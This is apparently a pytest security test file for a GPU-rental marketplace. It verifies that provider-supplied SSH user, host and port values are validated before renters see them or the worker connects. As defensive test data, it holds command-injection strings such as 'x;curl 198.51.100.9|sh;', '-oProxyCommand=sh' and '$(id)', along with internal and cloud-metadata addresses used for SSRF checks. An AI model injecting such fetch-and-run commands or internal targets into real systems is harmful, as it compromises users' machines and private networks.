"""What a node's `vm create`/`vm start` answer may say about where renters log in (found by review; each test
failed before its fix). The answer is the provider's word: the renter pastes `ssh_command` into their own shell,
and the worker connects to `ssh_host` to wait for the VM's SSH server. A user, host or port the platform may not
use is the node's garbage (AgentGarbage: the job fails at once, the VM is removed, nothing is recorded or billed);
`ssh_host: null` (a docker node without GPUMARKET_PUBLIC_HOST) is the node's own address. The node is a fake
session answering as the agent does; the worker's wait for SSH is recorded, not run."""
import shlex
import socket

import pytest
from celery.exceptions import Retry

from marketplace.models import Instance, InstanceStatus, Node
from marketplace.selectors import instance_ssh_command
from marketplace.services import instances as instance_svc
from provisioning import tasks
from provisioning.models import Job, JobKind, JobStatus
from tests.factories import UserFactory, make_listed_node
from tests.marketplace.renting_helpers import book

from .test_vm_job_failures import RETRIES_SPENT, run_in_worker

pytestmark = pytest.mark.django_db

ANSWER = {"vm_id": "x", "runtime": "docker", "state": "running", "ssh_host": None, "ssh_port": 40001,
          "ssh_user": "root", "ports": {}, "os": "Debian GNU/Linux 13 (trixie)", "disk_gb": 50}
PUBLIC_NODE = "9.9.9.9"  # a public unicast address (nothing connects to it here)


class AnsweringNode:
    """A node whose `vm create` and `vm start` answer `answer`; `vm destroy` removes the VM."""

    def __init__(self, answer):
        self.answer = dict(answer)
        self.calls: list[tuple[str, str | None]] = []

    def session(self, node, *args, **kwargs):
        fake = self

        class Session:
            def __enter__(self):
                return self

            def __exit__(self, *exc):
                return False

            def agent(self, cmd, sub=None, request=None, timeout=None):
                fake.calls.append((cmd, sub))
                if (cmd, sub) == ("vm", "destroy"):
                    return {"vm_id": request["vm_id"], "state": "destroyed", "existed": True}
                return {**fake.answer, "vm_id": request["vm_id"]}

        return Session()


@pytest.fixture(autouse=True)
def waited(monkeypatch):
    """Where the worker waited for the VM's SSH server: (host, port)."""
    seen: list[tuple[str, int]] = []
    monkeypatch.setattr("provisioning.services.jobs._send", lambda job_id, kind: None)
    monkeypatch.setattr("provisioning.services.vms.wait_for_ssh", lambda host, port, timeout=0: seen.append(
        (host, port)))
    return seen


@pytest.fixture
def dns(monkeypatch):
    """Names under .example (RFC 2606) that the resolver knows: {name: [addresses]}; other .example names do not
    resolve, and any other name is the real resolver's (the database's host, for one)."""
    names: dict[str, list[str]] = {}
    real = socket.getaddrinfo

    def getaddrinfo(host, port, *args, **kwargs):
        if not str(host).rstrip(".").endswith(".example"):
            return real(host, port, *args, **kwargs)
        if host not in names:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, 0))
                for a in names[host]]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return names


def provision(monkeypatch, answer, address="10.0.0.1", retries=0) -> Instance:
    node = make_listed_node(gpu_count=2)
    Node.objects.filter(pk=node.pk).update(address=address)
    fake = AnsweringNode(answer)
    monkeypatch.setattr("provisioning.services.vms.node_session", fake.session)
    instance = book(UserFactory(), Node.objects.get(pk=node.pk))
    run_in_worker(tasks.instance_provision, Job.objects.get(instance=instance, kind=JobKind.INSTANCE_PROVISION),
                  retries=retries)
    instance = Instance.objects.get(pk=instance.pk)
    instance.fake = fake  # type: ignore[attr-defined]
    return instance


def said(instance: Instance) -> str:
    """The reason the instance's last job failed, as its provider and operators read it."""
    return Job.objects.filter(instance=instance).latest("pk").error


def assert_refused(instance: Instance, waited, words: str) -> None:
    """The node's answer was garbage: the instance failed with the reason, the VM was removed, nothing of the
    answer was recorded, and the worker connected nowhere."""
    job = Job.objects.get(instance=instance, kind=JobKind.INSTANCE_PROVISION)
    assert job.status == JobStatus.FAILED and words in job.error, job.error
    # The node's answer is its own word (provider-controlled text): the renter reads a sentence of their own
    # (review r55 renter_web MEDIUM-1); the job keeps the reason for the provider and operators.
    assert instance.status == InstanceStatus.FAILED and words not in instance.status_message
    assert instance.status_message.startswith("Its server could not carry it out."), instance.status_message
    assert ("vm", "destroy") in instance.fake.calls  # type: ignore[attr-defined]
    assert instance.ssh_host == "" and instance.ssh_port is None and instance.ssh_user == ""
    assert instance.ports == {} and instance_ssh_command(instance) is None
    assert waited == [] and instance.billed_seconds == 0


# --------------------------------------------------------------------------------------------- ssh_user

@pytest.mark.parametrize("user", ["x;curl 198.51.100.9|sh;", "root$(id)", "a b", "-oProxyCommand=sh", "Root",
                                  "a" * 33, "", None, 0, ["root"], "root\n"])  # "$" matched before a newline
def test_an_ssh_user_that_is_not_a_user_name_fails_the_provision_and_never_reaches_the_renters_command(
        monkeypatch, waited, user):
    """Before, a provider's node answering ssh_user='x;curl 198.51.100.9|sh;' had the API and the instance page
    show `ssh -p 40001 x;curl 198.51.100.9|sh;@10.0.0.1`, run on the renter's machine when pasted."""
    instance = provision(monkeypatch, {**ANSWER, "ssh_user": user})
    assert_refused(instance, waited, "ssh_user")
    assert "is not a POSIX user name" in said(instance)


# --------------------------------------------------------------------------------------------- ssh_port

@pytest.mark.parametrize("port", [0, 65536, -22, 2 ** 70, True, "22", 22.0, None])
def test_an_ssh_port_that_is_not_1_to_65535_is_the_nodes_garbage_not_a_crash(monkeypatch, waited, port):
    """Before, 2**70 raised OverflowError in the worker's connection (an internal error, not the node's), and
    70000 or True were recorded as the renter's port."""
    instance = provision(monkeypatch, {**ANSWER, "ssh_port": port})
    assert_refused(instance, waited, "ssh_port")
    assert "is not a port number (1 to 65535)" in said(instance)


# --------------------------------------------------------------------------------------------- ssh_host

def test_a_null_ssh_host_is_the_nodes_own_address_for_ssh_and_each_port(monkeypatch, waited):
    """A docker node on the default config (no GPUMARKET_PUBLIC_HOST) answers ssh_host: null, documented as
    "renters use the node's own address". Before, the worker waited on (None, port) (its own loopback), then
    wrote NULL into the NOT NULL ssh_host column (IntegrityError), and dropped the ports ({"host": null})."""
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": None,
                                       "ports": {"8888/tcp": {"host": None, "port": 40002}}}, address=PUBLIC_NODE)
    assert waited == [(PUBLIC_NODE, 40001)]
    assert instance.status == InstanceStatus.RUNNING, instance.status_message
    assert (instance.ssh_host, instance.ssh_port, instance.ssh_user) == (PUBLIC_NODE, 40001, "root")
    assert instance.ports == {"8888/tcp": {"host": PUBLIC_NODE, "port": 40002}}
    assert instance_ssh_command(instance) == f"ssh -p 40001 root@{PUBLIC_NODE}"


@pytest.mark.parametrize("host", ["x;id", "a b", "-oProxyCommand=sh", "host_name.example", "1.2.3.999", "",
                                  "a" * 254, "fe80::1%eth0", 5, ["10.0.0.1"], "gpu1\n.example.com", "example.com\n"])
def test_an_ssh_host_that_is_neither_an_ip_address_nor_a_hostname_is_the_nodes_garbage(monkeypatch, waited, host):
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=PUBLIC_NODE)
    assert_refused(instance, waited, "ssh_host")
    assert "is neither an IP address nor a hostname" in said(instance)


@pytest.mark.parametrize(("host", "kind"), [
    ("127.0.0.1", "loopback"), ("::1", "loopback"), ("10.1.2.3", "private"), ("192.168.0.1", "private"),
    ("100.64.0.1", "private"), ("169.254.169.254", "link-local"), ("fe80::1", "link-local"),
    ("0.0.0.0", "unspecified"),  # noqa: S104 - an address a node names, bound by nothing ("224.0.0.1", "multicast"), ("240.0.0.1", "reserved"),
    ("::ffff:10.0.0.1", "private"), ("64:ff9b::a9fe:a9fe", "reserved"), ("2002:a00:1::1", "non-public"),
])
def test_a_public_node_may_not_point_renters_or_the_worker_at_internal_addresses(monkeypatch, waited, host, kind):
    """Before, the worker connected to whatever ssh_host the node named (its own loopback, the platform's private
    network, a cloud's metadata service) and renters were shown it."""
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=PUBLIC_NODE)
    assert_refused(instance, waited, "ssh_host")
    assert f"address, which a node at {PUBLIC_NODE} may not name" in said(instance)
    assert kind in said(instance)


def test_a_public_node_may_name_another_public_address_and_the_worker_waits_there(monkeypatch, waited):
    """GPUMARKET_PUBLIC_HOST: the address renters reach (a NAT's public side, a floating IP)."""
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": "2606:4700:4700::1111"}, address=PUBLIC_NODE)
    assert instance.status == InstanceStatus.RUNNING, instance.status_message
    assert waited == [("2606:4700:4700::1111", 40001)]
    assert instance_ssh_command(instance) == "ssh -p 40001 root@2606:4700:4700::1111"


@pytest.mark.parametrize(("node", "host", "ok"), [
    ("127.0.0.1", "127.0.0.1", True),  # a simulated node answers its listen address
    ("127.0.0.1", "::1", True),
    ("127.0.0.1", "10.0.0.2", False),
    ("10.0.0.1", "10.0.0.2", True),  # a platform that registers nodes at private addresses reaches that network
    ("10.0.0.1", "127.0.0.1", False),  # but not its worker's own loopback
    ("10.0.0.1", "169.254.169.254", False),
    ("10.0.0.1", "9.9.9.10", True),
])
def test_a_node_at_a_loopback_or_private_address_may_name_addresses_of_its_own_kind(monkeypatch, waited, node, host,
                                                                                    ok):
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=node)
    if ok:
        assert instance.status == InstanceStatus.RUNNING, instance.status_message
        assert waited == [(host, 40001)] and instance.ssh_host == host
    else:
        assert_refused(instance, waited, "ssh_host")


def test_a_hostname_is_judged_by_every_address_it_resolves_to_and_the_worker_connects_to_the_one_checked(
        monkeypatch, waited, dns):
    """A name is resolved once, each of its addresses judged as an address would be, and the worker connects to
    the address it checked (not to the name again, whose next answer could be another). Renters see the name."""
    dns["vm.provider.example"] = ["9.9.9.10", "2606:4700:4700::1111"]
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": "vm.provider.example"}, address=PUBLIC_NODE)
    assert instance.status == InstanceStatus.RUNNING, instance.status_message
    assert waited == [("9.9.9.10", 40001)] and instance.ssh_host == "vm.provider.example"
    assert instance_ssh_command(instance) == "ssh -p 40001 root@vm.provider.example"


def test_a_hostname_resolving_to_an_internal_address_is_the_nodes_garbage(monkeypatch, waited, dns):
    dns["metadata.provider.example"] = ["9.9.9.10", "169.254.169.254"]
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": "metadata.provider.example"}, address=PUBLIC_NODE)
    assert_refused(instance, waited, "ssh_host")
    assert "metadata.provider.example, which resolves to 169.254.169.254, is a link-local address" in \
        said(instance)


def test_the_nodes_own_hostname_is_checked_as_every_connection_to_the_node_is(monkeypatch, waited, dns):
    """A node registered by name answering that name (any case, a final dot): renters are shown the name, and the
    worker waits at the address the name resolved to and was checked at (provisioning.ssh.checked_addresses), not
    at the name again. Before, it connected to the name, whose answer could have changed meanwhile (DNS rebinding),
    with no check at all."""
    dns["gpu1.provider.example"] = ["9.9.9.11"]
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": "GPU1.Provider.Example."}, address="gpu1.provider.example")
    assert instance.status == InstanceStatus.RUNNING, instance.status_message
    assert waited == [("9.9.9.11", 40001)] and instance.ssh_host == "GPU1.Provider.Example."


@pytest.mark.parametrize(("own", "host"), [("169.254.10.10", None), ("gpu1.provider.example", None),
                                           ("gpu1.provider.example", "gpu1.provider.example")])
def test_the_worker_does_not_wait_at_the_nodes_own_address_where_it_may_not_connect(monkeypatch, waited, dns, own,
                                                                                      host):
    """The node's own address (ssh_host null, or the node's name), refused by the rule of every connection to a
    node (core.addresses): a node registered before the rule, or whose name now resolves inside the platform's
    network. Before, the worker connected there (169.254.10.10 "whatever it is: the platform SSHes there")."""
    dns["gpu1.provider.example"] = ["169.254.169.254"]
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=own)
    job = Job.objects.get(instance=instance, kind=JobKind.INSTANCE_PROVISION)
    assert job.status == JobStatus.FAILED and "link-local address" in job.error, job.error
    assert "Waiting for the VM's ssh_host, the node's own address" in job.error
    assert instance.status == InstanceStatus.FAILED and waited == []


def test_a_node_in_an_allowed_private_network_names_no_other_private_address(monkeypatch, waited, settings):
    """A node in the operator's private network (NODE_ADDRESS_ALLOWED_NETWORKS) may name addresses of its own
    kind only inside the networks allowed: before, any private address (the platform's own network's too)."""
    settings.NODE_ADDRESS_ALLOWED_NETWORKS = ["10.8.0.0/16", "10.0.0.1/32"]  # the latter: where provision() registers
    instance = provision(monkeypatch, {**ANSWER, "ssh_host": "10.9.0.1"}, address="10.8.0.1")
    assert_refused(instance, waited, "ssh_host")
    assert "10.9.0.1 is a private address, which a node at 10.8.0.1 may not name (outside the networks" in \
        said(instance)
    ok = provision(monkeypatch, {**ANSWER, "ssh_host": "10.8.7.7"}, address="10.8.0.2")
    assert ok.status == InstanceStatus.RUNNING and waited == [("10.8.7.7", 40001)], ok.status_message


def test_a_hostname_that_does_not_resolve_is_retried_then_fails_naming_it(monkeypatch, waited, dns):
    answer = {**ANSWER, "ssh_host": "nowhere.provider.example"}
    with pytest.raises(Retry):  # a name may not resolve for a moment: the job tries again
        provision(monkeypatch, answer, address=PUBLIC_NODE)
    instance = provision(monkeypatch, answer, address=PUBLIC_NODE, retries=RETRIES_SPENT)
    assert instance.status == InstanceStatus.FAILED and waited == []
    assert "The VM's ssh_host nowhere.provider.example does not resolve" in said(instance)


# --------------------------------------------------------------------------------------------- ports

@pytest.mark.parametrize(("ports", "words"), [
    ({"8888/tcp": {"host": "169.254.169.254", "port": 40002}}, "ports[8888/tcp].host 169.254.169.254"),
    ({"8888/tcp": {"host": "x;id", "port": 40002}}, "ports[8888/tcp].host 'x;id' is neither"),
    ({"8888/tcp": {"host": None, "port": 70000}}, "ports[8888/tcp].port 70000 is not a port number"),
    ({"8888/tcp": {"host": None, "port": None}}, "ports[8888/tcp].port None"),
    ({"8888/udp; id": {"host": None, "port": 40002}}, "not a mapped port"),
    ({"8888/tcp": 40002}, "not a mapped port"),
    ([40002], "ports are not an object"),
    ({f"{p}/tcp": {"host": None, "port": p} for p in range(40000, 40017)}, "at most 16 mapped ports"),
])
def test_a_mapped_port_gets_the_same_rules_as_the_ssh_address(monkeypatch, waited, ports, words):
    instance = provision(monkeypatch, {**ANSWER, "ports": ports}, address=PUBLIC_NODE)
    assert_refused(instance, waited, words)


def test_a_start_answer_is_checked_as_a_create_answer_is(monkeypatch, waited):
    """`vm start` answers where the VM is now: the same rules; the start fails, the instance is stopped again
    (its disk kept) and keeps what was recorded before."""
    instance = provision(monkeypatch, ANSWER, address=PUBLIC_NODE)
    assert instance.status == InstanceStatus.RUNNING
    instance_svc.instance_stop(instance=instance)
    run_in_worker(tasks.instance_stop, Job.objects.get(instance=instance, kind=JobKind.INSTANCE_STOP))
    instance_svc.instance_start(instance=Instance.objects.get(pk=instance.pk))
    instance.fake.answer["ssh_user"] = "x;id"  # type: ignore[attr-defined]
    run_in_worker(tasks.instance_start, Job.objects.get(instance=instance, kind=JobKind.INSTANCE_START))
    instance.refresh_from_db()
    assert instance.status == InstanceStatus.STOPPED and "ssh_user 'x;id'" in said(instance)
    assert (instance.ssh_host, instance.ssh_user) == (PUBLIC_NODE, "root") and len(waited) == 1


# --------------------------------------------------------------------------------------------- ssh_command

def test_the_ssh_command_quotes_each_part_for_the_renters_shell(monkeypatch, waited):
    """Whatever was recorded (an instance from before these checks, an operator's edit): the command a renter
    pastes is `ssh -p PORT USER@HOST` and nothing else."""
    instance = provision(monkeypatch, ANSWER, address=PUBLIC_NODE)
    Instance.objects.filter(pk=instance.pk).update(ssh_user="x;curl 198.51.100.9|sh;", ssh_host="h$(id)")
    command = instance_ssh_command(Instance.objects.get(pk=instance.pk))
    assert shlex.split(command) == ["ssh", "-p", "40001", "x;curl 198.51.100.9|sh;@h$(id)"]
    assert command == "ssh -p 40001 'x;curl 198.51.100.9|sh;@h$(id)'"
